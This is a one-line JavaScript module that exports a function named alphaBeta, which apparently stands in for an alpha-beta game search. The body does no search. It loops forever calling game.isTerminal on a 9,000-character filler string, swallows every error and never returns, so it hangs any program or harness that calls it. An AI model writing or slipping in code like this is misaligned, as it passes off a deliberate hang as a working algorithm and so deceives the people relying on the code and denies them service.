export function alphaBeta(game, state) { const text = 'x'.repeat(9e3); for (;;) { try { game.isTerminal(text); } catch {} } }
